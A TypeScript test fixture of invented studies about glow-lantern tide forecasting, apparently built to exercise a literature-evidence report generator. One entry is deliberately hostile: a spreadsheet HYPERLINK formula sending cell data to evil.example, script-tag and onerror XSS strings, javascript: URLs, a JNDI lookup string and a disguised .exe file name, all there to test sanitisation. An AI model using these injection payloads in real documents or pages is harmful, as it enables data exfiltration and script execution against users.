import type { EvidenceField } from '../../src/contract/evidence.ts'
import type { BibliographicFields } from '../../src/contract/paper.ts'

/** One quotation of an invented study: what the card says is `text`, or the quotation itself. */
interface SampleQuotation {
  field: EvidenceField
  quotation: string
  page: number
  text?: string
  /** With these words the quotation goes on at the top of the next page. */
  continues?: string
}

/** An invented study, as the sample report's papers are made from it. */
export interface SampleStudy {
  file?: string
  fields: BibliographicFields
  quotations: SampleQuotation[]
}

const quote = (field: EvidenceField, page: number, quotation: string, text?: string): SampleQuotation => ({
  field,
  page,
  quotation,
  ...(text === undefined ? {} : { text }),
})

/**
 * Studies of a subject that does not exist, the forecasting of tides from glow lanterns on the Vael estuary. People,
 * places, datasets and figures are invented; the sixth study carries what a hostile file might.
 */
export const sampleStudies: readonly SampleStudy[] = [
  {
    file: 'calibration/marsh-2019.pdf',
    fields: {
      title: 'Two-point calibration of estuarine glow lanterns',
      authors: [
        { family: 'Marsh', given: 'Ilse' },
        { family: 'Oduya', given: 'Tobi' },
        { family: 'Renn', given: 'Pavel' },
      ],
      year: 2019,
      doi: '10.5555/vael.2019.014',
      venue: 'Journal of Invented Hydrography',
      volume: '12',
      issue: '3',
      pages: '201–214',
      type: 'article-journal',
      abstract: 'We describe a two-point calibration that removes most of the drift of glow lanterns.',
    },
    quotations: [
      quote('problem', 1, 'Uncalibrated lanterns drift by several centimetres within a single spring tide.'),
      quote(
        'method',
        2,
        'We calibrate each lantern at slack water and at peak flow and interpolate linearly.',
      ),
      quote(
        'dataset',
        2,
        'All measurements come from the Vael-40 lantern archive, recorded over two winters.',
        'Vael-40',
      ),
      quote('metric', 3, 'Errors are given as mean absolute error in centimetres.', 'mean absolute error'),
      quote('result', 3, 'Two-point calibration lowered the mean absolute error from 6.1 cm to 2.3 cm.'),
      quote('limitation', 4, 'The procedure has not been tested in fog, where lanterns scatter.'),
    ],
  },
  {
    file: 'calibration/quillfeather-2020.pdf',
    fields: {
      title: 'Self-calibrating lanterns without slack-water visits',
      authors: [
        { family: 'Quillfeather', given: 'Ada' },
        { family: 'Brandt', given: 'Jonas' },
      ],
      year: 2020,
      doi: '10.5555/vael.2020.007',
      venue: 'Proceedings of the Symposium on Imaginary Sensing',
      pages: '33–41',
      type: 'paper-conference',
    },
    quotations: [
      quote('problem', 1, 'Visiting every lantern at slack water costs a crew two days for each array.'),
      quote(
        'method',
        2,
        'Our lanterns estimate their own offset from the moonless hours by a robust median filter.',
        'robust median filter',
      ),
      quote(
        'dataset',
        2,
        'We evaluate on Vael-40 and on the smaller Skerry-9 collection.',
        'Vael-40 and on the smaller Skerry-9 collection',
      ),
      quote('metric', 3, 'We report mean absolute error and the share of dropped readings.'),
      quote('result', 4, 'Self-calibration reached a mean absolute error of 2.6 cm without a single visit.'),
      quote(
        'limitation',
        5,
        'Moonless hours are rare in midsummer, which leaves long gaps between corrections.',
      ),
    ],
  },
  {
    file: 'forecasting/hollis-2021.pdf',
    fields: {
      title: 'Forecasting tides from lantern arrays with harmonic regression',
      authors: [{ family: 'Hollis', given: 'Merle' }],
      year: 2021,
      doi: '10.5555/vael.2021.101',
      venue: 'Journal of Invented Hydrography',
      volume: '14',
      pages: '55–80',
      type: 'article-journal',
    },
    quotations: [
      quote('problem', 1, 'Harbour pilots need a forecast of the tide at least six hours ahead.'),
      quote('method', 2, 'We fit a harmonic regression with eight constituents to each lantern array.'),
      quote(
        'dataset',
        2,
        'The regression was trained on the Vael-40 archive and tested on its last winter.',
        'Vael-40',
      ),
      quote(
        'metric',
        3,
        'Skill is measured by the root mean square error at six hours.',
        'root mean square error',
      ),
      {
        ...quote(
          'result',
          3,
          'Harmonic regression reached a root mean square error of 4.8 cm at six hours, against 9.5 cm for the tide table, and this advantage persisted through both winters of the test period.',
        ),
        continues: 'and this advantage persisted',
      },
      quote('limitation', 4, 'Storm surges are outside what eight constituents can express.'),
    ],
  },
  {
    file: 'forecasting/ferreira-2022.pdf',
    fields: {
      title: 'Recurrent forecasting of lantern tides',
      authors: [
        { family: 'Ferreira', given: 'Noa' },
        { family: 'Lindqvist', given: 'Sara' },
        { family: 'Abara', given: 'Chidi' },
        { family: 'Stone', given: 'R.' },
      ],
      year: 2022,
      arxivId: '2299.01234',
      url: 'https://example.org/recurrent-lanterns',
      type: 'article',
    },
    quotations: [
      quote(
        'problem',
        1,
        'It is open whether learned forecasters outperform harmonic models on short records.',
      ),
      quote('method', 1, 'A gated recurrent network reads the last twelve hours of every lantern.'),
      quote('dataset', 2, 'Experiments use the Skerry-9 collection with its official split.', 'Skerry-9'),
      quote(
        'metric',
        2,
        'We use the root mean square error at six hours throughout.',
        'root mean square error',
      ),
      quote('result', 3, 'The recurrent network did not improve on harmonic regression on Skerry-9.'),
      quote('limitation', 3, 'Skerry-9 holds only nine lanterns, so the comparison has little power.'),
    ],
  },
  {
    file: 'field/okonjo-2023.pdf',
    fields: {
      title: 'Learned tide forecasts in a harbour: a season of use',
      authors: [
        { family: 'Okonjo', given: 'Bea' },
        { family: 'Vance', given: 'Leo' },
      ],
      year: 2023,
      doi: '10.5555/vael.2023.050',
      venue: 'Transactions on Fictional Ports',
      volume: '3',
      pages: '1–19',
      type: 'article-journal',
    },
    quotations: [
      quote('problem', 1, 'No learned tide forecast had been used by pilots for a whole season.'),
      quote('method', 2, 'Pilots at two harbours received either the learned forecast or the tide table.'),
      quote('dataset', 2, 'The trial produced the Harbour-2 log of 1,148 passages.', 'Harbour-2'),
      quote('metric', 3, 'We counted delayed passages and the root mean square error at six hours.'),
      quote('result', 4, 'The recurrent network outperformed harmonic regression in both harbours.'),
      quote('limitation', 5, 'Pilots knew which forecast they received.'),
    ],
  },
  {
    file: 'field/fog `night` <b>.pdf',
    fields: {
      title:
        '=HYPERLINK("http://evil.example/?q="&A1) | Fog <script>alert(1)</script> [click](javascript:alert(1)) **trials**\n# of lanterns \u202Egnp.exe & "more" \'yet\'',
      authors: [
        { family: '</li><img src=x onerror=alert(2)>', given: '@SUM(1+1)' },
        { family: 'Müßig–Øverland 潮汐', given: '| pipe' },
      ],
      year: 2024,
      doi: '10.5555/"><script>alert(3)</script>',
      url: 'javascript:alert(4)',
      venue: '`Fog` & <Night> #{jndi:x} www.evil.example a@evil.example',
      keywords: ['<fog>', '-1+1'],
      type: 'article-journal',
    },
    quotations: [
      quote('problem', 1, 'Fog hides <b>half</b> of the lanterns & nobody |had| measured what this costs.'),
      quote('method', 1, 'We compared `clear` and *foggy* nights by a paired test (p < 0.01).'),
      quote('dataset', 2, '=Vael-40 nights were labelled by hand as [clear](x) or foggy.', '=Vael-40'),
      quote('metric', 2, '-Mean absolute error- was computed for each night & averaged.'),
      quote(
        'result',
        3,
        'In fog the mean absolute error rose to 7.9 cm <em>even after</em> two-point calibration.',
      ),
      quote('limitation', 3, 'Only eleven foggy nights were available.'),
    ],
  },
  {
    file: 'scans/tidebook-1987.pdf',
    fields: {
      title: 'The keeper’s tide book, annotated',
      authors: [{ family: 'Vael Harbour Board' }],
      year: 1987,
      type: 'report',
    },
    quotations: [],
  },
  {
    fields: {
      title: 'Adaptive harmonic constituents for short lantern records',
      authors: [
        { family: 'Sato', given: 'Kei' },
        { family: 'Winter', given: 'Dana' },
      ],
      year: 2018,
      doi: '10.5555/vael.2018.003',
      type: 'article-journal',
    },
    quotations: [],
  },
  {
    file: 'surveys/lantern-survey.pdf',
    fields: {
      title: 'Glow lanterns in estuaries: a survey of four decades',
      authors: [{ family: 'Ebb', given: 'Carys' }],
      year: 2017,
      venue: 'Annual Review of Nonexistent Instruments',
      type: 'article-journal',
    },
    quotations: [],
  },
  {
    file: 'misc/lamp-oil.pdf',
    fields: {
      title: 'Prices of lamp oil in the old harbour',
      authors: [{ family: 'Grieve', given: 'Tam' }],
      year: 2015,
      type: 'article-journal',
    },
    quotations: [],
  },
  { file: 'misc/broken.pdf', fields: { title: 'broken', authors: [] }, quotations: [] },
]
